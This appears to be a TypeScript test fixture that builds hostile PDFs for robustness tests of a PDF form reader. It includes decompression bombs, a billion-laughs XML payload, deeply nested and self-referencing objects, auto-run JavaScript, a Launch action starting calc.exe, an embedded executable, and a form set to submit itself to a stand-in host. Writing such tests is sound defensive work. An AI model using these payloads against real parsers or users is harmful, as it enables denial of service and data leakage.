import { constants, deflateRawSync, deflateSync } from 'node:zlib';

/** Hostile PDFs, each built to do damage in one way. */
export interface HostileFile {
  name: string;
  make(replica: Uint8Array): Uint8Array;
}

export function hostileFiles(): HostileFile[] {
  return [
    { name: 'no PDF at all', make: () => Buffer.from('MZ this is a program') },
    { name: 'an empty file', make: () => new Uint8Array() },
    { name: 'a header and nothing else', make: () => Buffer.from('%PDF-1.7\n') },
    { name: 'random bytes after a header', make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), noise(200_000)]) },
    { name: 'half of a form', make: (replica) => replica.slice(0, replica.length / 2) },
    { name: 'an object stream that inflates to half a gigabyte', make: () => objectStreamBomb(512) },
    { name: 'a bomb within a bomb', make: nestedBomb },
    { name: 'an XFA part that inflates to half a gigabyte', make: xfaBomb },
    { name: 'entities that multiply', make: billionLaughs },
    { name: 'XFA nested a hundred thousand deep', make: deepXfa },
    { name: 'a million objects', make: () => manyObjects(1_000_000) },
    { name: 'a hundred thousand fields', make: () => manyFields(100_000) },
    {
      name: 'a field inside itself',
      make: () => form('3 0 obj << /T (a) /Kids [4 0 R] >> endobj 4 0 obj << /T (b) /Kids [3 0 R] >> endobj'),
    },
    { name: 'fields nested ten thousand deep', make: () => form(nestedFields(10_000)) },
    {
      name: 'a page inside itself',
      make: () => form('3 0 obj << /T (a) /FT /Tx >> endobj', '/Type /Pages /Kids [2 0 R] /Count 1'),
    },
    { name: 'arrays nested a million deep', make: () => form(`3 0 obj ${'['.repeat(1_000_000)} endobj`) },
    { name: 'an object that refers to itself', make: () => form('3 0 obj 3 0 R endobj') },
    {
      name: 'a stream whose length lies',
      make: () => form('3 0 obj << /T (a) /FT /Tx /V 5 0 R >> endobj 5 0 obj << /Length 999999999999 >> stream\nx'),
    },
    {
      name: 'a script that runs when it is opened',
      make: () => form(FIELD, PAGES, '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>'),
    },
    {
      name: 'a script of the document',
      make: () => form(FIELD, PAGES, '/Names << /JavaScript << /Names [(go) << /S /JavaScript /JS (x) >>] >> >>'),
    },
    {
      name: 'a program started when it is opened',
      make: () => form(FIELD, PAGES, '/OpenAction << /S /Launch /F (calc.exe) >>'),
    },
    {
      name: 'a form sent off when a page is seen',
      make: () =>
        form(
          FIELD,
          PAGES.replace('/Count', '/AA << /O << /S /SubmitForm /F (https://x.example) >> >> /Count'),
          '/AA << /WC << /S /SubmitForm /F (https://x.example) >> >>',
        ),
    },
    {
      name: 'an embedded file',
      make: () =>
        form(FIELD, PAGES, '/Names << /EmbeddedFiles << /Names [(a.exe) << /Type /Filespec /F (a.exe) >>] >> >>'),
    },
  ];
}

const PAGES = '/Type /Pages /Kids [9 0 R] /Count 1';
const FIELD =
  '3 0 obj << /T (a) /FT /Tx /Subtype /Widget /Rect [0 0 100 20] >> endobj 9 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [3 0 R] >> endobj';

/** A small PDF whose form has object 3 as its only field. */
function form(objects: string, pages = PAGES, catalog = ''): Uint8Array {
  return Buffer.from(
    `%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [3 0 R] >> ${catalog} >> endobj\n2 0 obj << ${pages} >> endobj\n${objects}\ntrailer << /Root 1 0 R /Size 20 >>\nstartxref\n0\n%%EOF`,
    'latin1',
  );
}

function objectStreamBomb(megabytes: number): Uint8Array {
  const bomb = inflatingTo(megabytes);
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >> stream\n`,
    ),
    bomb,
    Buffer.from('\nendstream endobj\ntrailer << /Root 1 0 R >>'),
  ]);
}

function nestedBomb(): Uint8Array {
  let bomb = inflatingTo(400);
  for (let i = 0; i < 2; i++) bomb = deflateSync(bomb, { level: 9 });
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n5 0 obj << /Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode /FlateDecode] /Length ${bomb.length} >> stream\n`,
    ),
    bomb,
    Buffer.from('\nendstream endobj\ntrailer << /Root 1 0 R >>'),
  ]);
}

/** Deflated spaces between two texts, built in pieces: compressing that much at once takes longer than refusing it. */
export function inflatingTo(megabytes: number, before = '', after = ''): Buffer {
  const piece = (data: Buffer, finishFlush: number) => deflateRawSync(data, { level: 9, finishFlush });
  const spaces = piece(Buffer.alloc(1024 * 1024, 32), constants.Z_FULL_FLUSH);
  return Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    piece(Buffer.from(before), constants.Z_FULL_FLUSH),
    ...Array.from({ length: megabytes }, () => spaces),
    piece(Buffer.from(after), constants.Z_FINISH),
    // The checksum of everything, which no reader ever reaches.
    Buffer.alloc(4),
  ]);
}

function xfa(template: Buffer): Uint8Array {
  return xfaPacked(deflateSync(template));
}

function xfaPacked(packed: Buffer): Uint8Array {
  return Buffer.concat([
    Buffer.from(
      `%PDF-1.7\n1 0 obj << /Type /Catalog /NeedsRendering true /Pages 2 0 R /AcroForm << /Fields [] /XFA [(template) 5 0 R] >> >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n5 0 obj << /Filter /FlateDecode /Length ${packed.length} >> stream\n`,
    ),
    packed,
    Buffer.from('\nendstream endobj\ntrailer << /Root 1 0 R >>'),
  ]);
}

const xfaBomb = () => xfaPacked(inflatingTo(512, '<template>', '</template>'));

function billionLaughs(): Uint8Array {
  const entities = Array.from({ length: 12 }, (_, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');
  return xfa(
    Buffer.from(`<!DOCTYPE t [<!ENTITY l0 "lol">${entities}]><template><subform name="a">&l12;</subform></template>`),
  );
}

const deepXfa = () =>
  xfa(Buffer.from(`<template>${'<subform>'.repeat(100_000)}${'</subform>'.repeat(100_000)}</template>`));

function manyObjects(count: number): Uint8Array {
  const parts = ['%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj\n'];
  for (let i = 3; i < count; i++) parts.push(`${i} 0 obj << /A [1 2 3] /B (text) >> endobj\n`);
  return Buffer.from(`${parts.join('')}trailer << /Root 1 0 R >>`);
}

function manyFields(count: number): Uint8Array {
  const refs = Array.from({ length: count }, (_, i) => `${i + 10} 0 R`).join(' ');
  const fields = Array.from(
    { length: count },
    (_, i) => `${i + 10} 0 obj << /T (f${i}) /FT /Tx /Rect [0 0 9 9] >> endobj`,
  ).join('\n');
  return Buffer.from(
    `%PDF-1.7\n1 0 obj << /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [${refs}] >> >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n${fields}\ntrailer << /Root 1 0 R >>`,
  );
}

function nestedFields(depth: number): string {
  const fields = Array.from(
    { length: depth },
    (_, i) => `${i + 3 + (i >= 6 ? 1 : 0)} 0 obj << /T (f) /Kids [${i + 4 + (i + 1 >= 6 ? 1 : 0)} 0 R] >> endobj`,
  );
  return fields.join('\n');
}

function noise(length: number): Buffer {
  const bytes = Buffer.alloc(length);
  let state = 42;
  for (let i = 0; i < length; i++) {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    bytes[i] = (state >> 16) & 0xff;
  }
  return bytes;
}
